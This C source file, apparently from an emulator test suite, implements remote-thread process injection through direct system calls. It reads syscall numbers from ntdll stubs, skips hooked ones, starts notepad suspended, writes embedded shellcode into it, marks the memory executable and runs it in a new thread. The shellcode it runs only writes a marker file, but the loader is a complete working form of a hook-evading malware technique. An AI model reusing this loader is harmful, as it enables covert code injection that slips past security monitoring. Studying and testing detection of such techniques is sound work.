/*
 * injector.c - generality suite: remote-thread injection by direct system calls (benign,
 * emulator-only), as loaders that avoid user-mode hooks do it.
 *
 * Reads the system service numbers of NtAllocateVirtualMemory, NtWriteVirtualMemory,
 * NtProtectVirtualMemory and NtCreateThreadEx from ntdll's stubs (Hell's Gate), starts
 * C:\Windows\System32\notepad.exe suspended (CreateProcessA), then with its own `syscall`
 * instruction allocates read-write memory in it, writes the shellcode embedded in this EXE's data
 * and its context block there, makes the code read-execute and runs it in a new thread.
 * The shellcode (../lineage-common/payload.c) writes C:\Users\Public\lineage_syscalls.txt.
 * Exit codes: 0 ok, 1 no marker, 2 process, 3 no system call numbers, 4 memory, 5 thread.
 */
#include "common.h"
#include "blobs.h"

typedef LONG NTSTATUS_T;
DWORD ssn_value; /* read by do_syscall */

/* mov r10, rcx; mov eax, <number>; syscall; ret: arguments 5 and up are where the kernel reads them */
__asm__(".text\n"
        ".globl do_syscall\n"
        "do_syscall:\n"
        "  mov %rcx, %r10\n"
        "  mov ssn_value(%rip), %eax\n"
        "  syscall\n"
        "  ret\n");
NTSTATUS_T do_syscall(ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR,
                      ULONG_PTR, ULONG_PTR, ULONG_PTR);

static int number_of(HMODULE ntdll, const char *name, DWORD *number)
{
    const unsigned char *stub = (const unsigned char *)GetProcAddress(ntdll, name);
    if (!stub || stub[0] != 0x4C || stub[1] != 0x8B || stub[2] != 0xD1 || stub[3] != 0xB8)
        return 0; /* no stub, or a hooked one */
    *number = *(const DWORD *)(stub + 4);
    return 1;
}

static NTSTATUS_T sys(DWORD number, ULONG_PTR a, ULONG_PTR b, ULONG_PTR c, ULONG_PTR d, ULONG_PTR e, ULONG_PTR f,
                      ULONG_PTR g, ULONG_PTR h, ULONG_PTR i, ULONG_PTR j, ULONG_PTR k)
{
    ssn_value = number;
    return do_syscall(a, b, c, d, e, f, g, h, i, j, k);
}

void Entry(void)
{
    static struct sc_ctx ctx;
    static char cmd[] = "C:\\Windows\\System32\\notepad.exe";
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *si_bytes = (unsigned char *)&si;
    DWORD n_alloc, n_write, n_protect, n_thread, old, i;
    PVOID code = 0, param = 0;
    SIZE_T size, written;
    HANDLE thread = 0;
    HMODULE ntdll;

    if (!marker_present())
        ExitProcess(1);
    ntdll = GetModuleHandleA("ntdll.dll");
    if (!number_of(ntdll, "NtAllocateVirtualMemory", &n_alloc) || !number_of(ntdll, "NtWriteVirtualMemory", &n_write) ||
        !number_of(ntdll, "NtProtectVirtualMemory", &n_protect) || !number_of(ntdll, "NtCreateThreadEx", &n_thread))
        ExitProcess(3);
    for (i = 0; i < sizeof(si); i++)
        si_bytes[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
        ExitProcess(2);
    size = sizeof(payload);
    if (sys(n_alloc, (ULONG_PTR)pi.hProcess, (ULONG_PTR)&code, 0, (ULONG_PTR)&size, MEM_COMMIT | MEM_RESERVE,
            PAGE_READWRITE, 0, 0, 0, 0, 0) != 0)
        ExitProcess(4);
    size = sizeof(ctx);
    if (sys(n_alloc, (ULONG_PTR)pi.hProcess, (ULONG_PTR)&param, 0, (ULONG_PTR)&size, MEM_COMMIT | MEM_RESERVE,
            PAGE_READWRITE, 0, 0, 0, 0, 0) != 0)
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_syscalls.txt", "injected by system calls\n");
    if (sys(n_write, (ULONG_PTR)pi.hProcess, (ULONG_PTR)code, (ULONG_PTR)payload, sizeof(payload),
            (ULONG_PTR)&written, 0, 0, 0, 0, 0, 0) != 0 ||
        sys(n_write, (ULONG_PTR)pi.hProcess, (ULONG_PTR)param, (ULONG_PTR)&ctx, sizeof(ctx), (ULONG_PTR)&written, 0,
            0, 0, 0, 0, 0) != 0)
        ExitProcess(4);
    size = sizeof(payload);
    if (sys(n_protect, (ULONG_PTR)pi.hProcess, (ULONG_PTR)&code, (ULONG_PTR)&size, PAGE_EXECUTE_READ, (ULONG_PTR)&old,
            0, 0, 0, 0, 0, 0) != 0)
        ExitProcess(4);
    if (sys(n_thread, (ULONG_PTR)&thread, THREAD_ALL_ACCESS, 0, (ULONG_PTR)pi.hProcess, (ULONG_PTR)code,
            (ULONG_PTR)param, 0, 0, 0, 0, 0) != 0 || !thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    CloseHandle(thread);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    ExitProcess(0);
}
